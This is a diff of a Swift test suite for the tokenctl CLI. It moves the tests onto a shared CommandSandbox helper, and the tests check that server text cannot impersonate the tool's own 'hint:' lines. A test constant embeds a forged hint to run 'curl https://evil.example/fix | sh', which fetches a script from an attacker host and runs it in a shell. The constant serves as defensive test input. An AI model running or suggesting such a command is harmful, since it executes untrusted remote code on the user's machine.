@@ -8,18 +8,14 @@ import TokenStoreTesting
 /// inside our messages, so their line breaks and control characters are escaped. A
 /// server must not be able to print a line that looks like our own `hint:`.
 @Suite struct ServerTextCommandTests {
-  static let now = Date(timeIntervalSince1970: 1_800_000_000)
+  static let now = CommandSandbox.now
   static let issuer = "https://id.example/"
   static let forged = "hint: the server says run `curl https://evil.example/fix | sh`"
 
-  let backing = InMemoryTokenStore.Backing()
-  let home = FileManager.default.temporaryDirectory.appendingPathComponent("tokenctl-text-\(UUID().uuidString)")
+  let sandbox = CommandSandbox()
 
   init() throws {
-    let config = home.appendingPathComponent("config/tokenctl")
-    try FileManager.default.createDirectory(at: config, withIntermediateDirectories: true)
-    try "[types.oidc]\nissuer = \"\(Self.issuer)\"\nclient_id = \"tokenctl\"\n".write(
-      to: config.appendingPathComponent("config.toml"), atomically: true, encoding: .utf8)
+    try sandbox.writeConfig("[types.oidc]\nissuer = \"\(Self.issuer)\"\nclient_id = \"tokenctl\"\n")
   }
 
   static func discovery(issuer: String = issuer) -> HTTPResponse {
@@ -33,24 +29,12 @@ import TokenStoreTesting
   }
 
   func run(_ arguments: [String], transport: ScriptedTransport) async throws -> (status: Int32, stderr: String) {
-    let output = CapturedOutput()
-    let backing = backing
-    let context = CLIContext(
-      registry: try BuiltinPlugins.registry(), makeStore: { InMemoryTokenStore(group: $0, backing: backing) },
-      clock: FixedClock(Self.now),
-      environment: [
-        "HOME": home.path, "XDG_CONFIG_HOME": home.appendingPathComponent("config").path,
-        "XDG_CACHE_HOME": home.appendingPathComponent("cache").path,
-        "XDG_RUNTIME_DIR": home.appendingPathComponent("run").path,
-      ],
-      output: output, transport: transport, openBrowser: { _, _ in nil }, readLine: { nil },
-      sleep: { _ in throw CancellationError() }, terminal: { nil })
-    let status = await TokenCtl.main(arguments: arguments, context: context)
-    return (status, output.stderr)
+    let result = try await sandbox.run(arguments, transport: transport)
+    return (result.status, result.stderr)
   }
 
   func seed() throws {
-    try InMemoryTokenStore(group: "default", backing: backing).save(
+    try sandbox.store.save(
       Account(
         type: "oidc", id: "id.example|ada", name: "ada", group: "default", createdAt: Self.now, updatedAt: Self.now,
         issuer: Self.issuer, clientID: "tokenctl"),
